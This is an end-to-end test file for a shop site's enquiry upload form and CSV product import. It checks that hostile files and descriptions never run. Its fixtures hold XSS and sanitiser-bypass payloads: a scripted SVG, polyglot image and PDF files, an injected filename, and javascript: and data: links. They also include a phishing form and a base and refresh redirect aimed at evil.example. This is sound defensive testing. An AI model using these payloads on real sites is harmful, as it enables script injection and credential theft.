import { expect, expectAccessible, readForm, signIn, test } from "../site.ts";

/** A page and an SVG drawing that change the title of anyone who runs them. */
const RUN = "document.title='ran'";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`;
const PAGE = `<!doctype html><script>${RUN}</script>`;
const PDF = `%PDF-1.4\n1 0 obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\nendobj\n${PAGE}\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`;
const NAME = `"><img src=x onerror=${RUN}>;\u202egpj.pdf`;

/** What a description from elsewhere may try; nothing of it may run, load or ask for anything. */
const MARKUP = [
  "<p>words that stay</p>",
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><a xlink:href="javascript:${RUN}">x</a></svg>`,
  `<a href="javascript:${RUN}">press</a><a href="data:text/html,${PAGE}">press</a>`,
  "<style>body{display:none}@import 'https://evil.example/a.css'</style>",
  `<iframe srcdoc="${PAGE.replaceAll('"', "&quot;")}"></iframe><object data="https://evil.example"></object>`,
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><script>${RUN}</script></template>`,
  '<div style="position:fixed;inset:0;background:url(https://evil.example/b.png)">more words</div>',
];

test.describe("files of an enquiry", () => {
  test.use({ expectedErrors: [/400/] });

  test("F-16: files of an enquiry run nowhere: refused by their bytes, or saved under a name of ours @desktop", async ({
    page,
  }) => {
    await page.goto("/equipment-servicing");
    const words = {
      name: "Una Upload",
      email: "upload@example.ie",
      phone: "091 000 000",
      message: "It hums.",
    };
    for (const [name, value] of Object.entries(words)) await page.locator(`[name=${name}]`).fill(value);
    await page.locator("details.form-more > summary").click();
    const files = page.locator("[name=attachments]");
    for (const [name, mimeType, text] of [
      ["plate.svg", "image/svg+xml", SVG],
      ["plate.jpg", "image/jpeg", PAGE],
      ["plate.png", "image/png", `\u0089PNG\r\n\u001a\n${PAGE}`],
    ] as const) {
      await files.setInputFiles({ name, mimeType, buffer: Buffer.from(text, "latin1") });
      const answer = page.waitForResponse((response) => response.request().method() === "POST");
      await page.locator("main form button[type=submit]").last().click();
      await (await answer).finished();
      await expect(page.getByText(/Choose files that are JPEG/).first()).toBeVisible();
      await expect(page.locator("main form button[aria-busy]")).toHaveCount(0);
    }
    await readForm(page);
    await files.setInputFiles({ name: NAME, mimeType: "application/pdf", buffer: Buffer.from(PDF) });
    await page.locator("main form button[type=submit]").last().click();
    const reference = await page
      .getByText(/IST-\d{4}-\d{4}/)
      .first()
      .innerText();
    expect(await page.title()).not.toBe("ran");

    await signIn(page);
    const number = /IST-\d{4}-\d{4}/.exec(reference)?.[0] ?? "";
    await page.goto(`/admin/enquiries?search=${number}`);
    await page
      .getByRole("link", { name: new RegExp(number) })
      .first()
      .click();
    const link = page.locator('a[href*="/files/"]').first();
    await expect(link).toBeVisible();
    await expect(page.locator("main img[src=x]")).toHaveCount(0);
    await expectAccessible(page);
    const file = await page.request.get((await link.getAttribute("href")) ?? "");
    expect(file.headers()).toMatchObject({
      "content-type": "application/pdf",
      "content-disposition": `attachment; filename="${number}.pdf"`,
      "content-security-policy": expect.stringMatching(/frame-ancestors 'none'.*sandbox/),
      "x-content-type-options": "nosniff",
    });
    expect(await page.title()).not.toBe("ran");
  });
});

test("F-15: an imported description runs nothing, asks no one and shows no form @desktop", async ({
  page,
}) => {
  await signIn(page);
  const cell = MARKUP.join("").replaceAll('"', '""');
  const csvData = `Type,SKU,Name,Regular price,Description,Short description\nsimple,F15-1,"Hostile lamp",10,"${cell}","${cell}"\n`;
  const run = await page.request.post("/api/import-csv-products", {
    data: { csvData },
    headers: { "Sec-Fetch-Site": "same-origin" },
  });
  expect(run.status()).toBe(200);
  await page.goto("/admin/products?search=Hostile+lamp");
  await page.getByRole("link", { name: "Hostile lamp" }).first().click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText("Hostile lamp");
  await expect(page.locator("iframe, object, base, main style")).toHaveCount(0);
  const id = new URL(page.url()).pathname.split("/").at(-1);
  for (const address of [`/preview/product/${id}`, `/ga/preview/product/${id}`]) {
    await page.goto(address);
    const main = page.getByRole("main");
    await expect(main).toContainText("words that stay");
    const foreign = await main
      .locator("iframe, object, embed, base, style, script, [onload], [onerror]")
      .evaluateAll((all) => all.map(({ outerHTML }) => outerHTML));
    // The page has scripts of its own; what came from elsewhere would change the title.
    expect(foreign.filter((html) => !html.startsWith("<script") || /title\s*=/.test(html))).toEqual([]);
    await expect(
      main.locator('[name="password"], form[action^="https"], [href^="javascript"], [href^="data"]'),
    ).toHaveCount(0);
    expect(await page.title()).not.toBe("ran");
    expect(new URL(page.url()).pathname).toBe(address);
  }
});
